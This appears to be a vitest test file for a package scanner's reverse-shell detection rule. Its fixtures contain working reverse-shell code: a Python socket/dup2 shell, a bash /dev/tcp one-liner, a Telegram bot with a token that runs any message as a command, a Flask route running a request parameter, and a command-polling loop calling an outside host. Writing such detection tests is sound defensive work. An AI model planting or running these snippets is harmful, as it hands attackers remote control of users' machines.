import { describe, it, expect } from 'vitest';
import { hits, maxSev } from './helpers.js';

describe('reverse-shell', () => {
  it('flags socket + dup2 + /bin/sh in setup.py (critical)', () => {
    const src = `import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(['/bin/sh', '-i'])\n`;
    expect(maxSev(hits('reverse-shell', { 'setup.py': src }))).toBe('critical');
  });
  it('flags a bash /dev/tcp one-liner spawned', () => {
    const src = `import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/9001 0>&1')\n`;
    expect(maxSev(hits('reverse-shell', { 'pkg/__init__.py': src }))).toBe('critical');
  });
  it('does not flag a plain socket client or a shell command', () => {
    const src = `import socket, subprocess\ndef ping(h):\n    s = socket.create_connection((h, 80))\n    s.close()\n    return subprocess.run(['sh', '-c', 'uname -a'])\n`;
    expect(hits('reverse-shell', { 'pkg/net.py': src })).toEqual([]);
  });
});

describe('reverse-shell: a chat bot as the remote console', () => {
  const BOT = (tail: string) => `import telebot, subprocess\nbot = telebot.TeleBot("8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac")\n@bot.message_handler(func=lambda m: True)\ndef run(message):\n    out = subprocess.check_output(message.text, shell=True, text=True)\n    bot.reply_to(message, out[:4000])\n${tail}`;
  it('blocks a bot with its token in the code that runs what it is sent and starts polling on import (critical)', () => {
    expect(maxSev(hits('reverse-shell', { 'pkg/__init__.py': BOT('bot.infinity_polling()\n') }))).toBe('critical');
  });
  it('holds the same bot in a module that only defines it (high)', () => {
    expect(maxSev(hits('reverse-shell', { 'pkg/bot.py': BOT('') }))).toBe('high');
  });
  it('does not flag a bot that runs fixed commands', () => {
    const src = `import telebot, subprocess, os\nbot = telebot.TeleBot(os.environ["TOKEN"])\n@bot.message_handler(commands=["uptime"])\ndef up(message):\n    bot.reply_to(message, subprocess.check_output(["uptime"], text=True))\n`;
    expect(hits('reverse-shell', { 'pkg/bot.py': src })).toEqual([]);
  });
});

describe('reverse-shell: web routes and polling loops as the remote console', () => {
  it('holds a Flask route that runs a request parameter (high)', () => {
    const src = `import subprocess, flask\nfrom flask import request\napp = flask.Flask(__name__)\n@app.route('/bs4')\ndef bs4():\n    out = subprocess.Popen(request.args.get('parser'), shell=True, stdout=subprocess.PIPE)\n    return out.stdout.read().decode()\n`;
    expect(maxSev(hits('reverse-shell', { 'pkg/tools.py': src }))).toBe('high');
  });
  it('holds a loop that fetches commands, runs them through a helper and posts the output (high)', () => {
    const src = `import time, subprocess, requests\ndef debug():\n    link = "https://ba-ace.anondns.net/"\n    while True:\n        resp = requests.get(link).text\n        out = runcommand(resp)\n        requests.post(link + "output", {"o": out})\n        time.sleep(1)\ndef runcommand(value):\n    return subprocess.run(value, shell=True, capture_output=True).stdout\n`;
    expect(maxSev(hits('reverse-shell', { 'pkg/__init__.py': src }))).toBe('high');
  });
  it('does not flag an updater that fetches twice and runs its own argv through a helper', () => {
    const src = `import subprocess, sys, requests\ndef update():\n    v = requests.get("https://pypi.org/pypi/pkg/json").json()["info"]["version"]\n    requests.get("https://example.org/changelog")\n    run([sys.executable, "-m", "pip", "install", "pkg==" + v])\ndef run(argv):\n    return subprocess.run(argv, check=True)\n`;
    expect(hits('reverse-shell', { 'pkg/update.py': src })).toEqual([]);
  });
});
